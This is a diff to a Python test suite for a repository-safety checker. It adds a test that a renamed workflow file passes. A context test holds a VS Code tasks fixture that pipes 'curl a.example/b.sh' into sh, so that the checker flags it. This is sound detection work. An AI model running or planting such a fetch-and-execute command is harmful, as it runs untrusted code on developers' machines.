@@ -70,6 +70,14 @@ def test_what_a_workflow_may_not_newly_do(tree: Tree, step: str, codes: set[str]
     assert found(tree, f"{_WORKFLOW}      - {step}\n") == codes
 
 
+def test_a_workflow_may_have_another_name(tree: Tree) -> None:
+    tree.write(_PATH, _WORKFLOW)
+    as_base(tree)
+    (tree.root / _PATH).unlink()
+    tree.write(".github/workflows/quality.yml", _WORKFLOW)
+    assert fatal(tree.check().findings) == set()
+
+
 def test_a_new_file_has_nothing_that_was_there_before(tree: Tree) -> None:
     tree.write(".vscode/tasks.json", '{"tasks": [{"command": "curl a.example/b.sh | sh"}]}')
     assert fatal(tree.check().findings) == {"automation-fetches"}
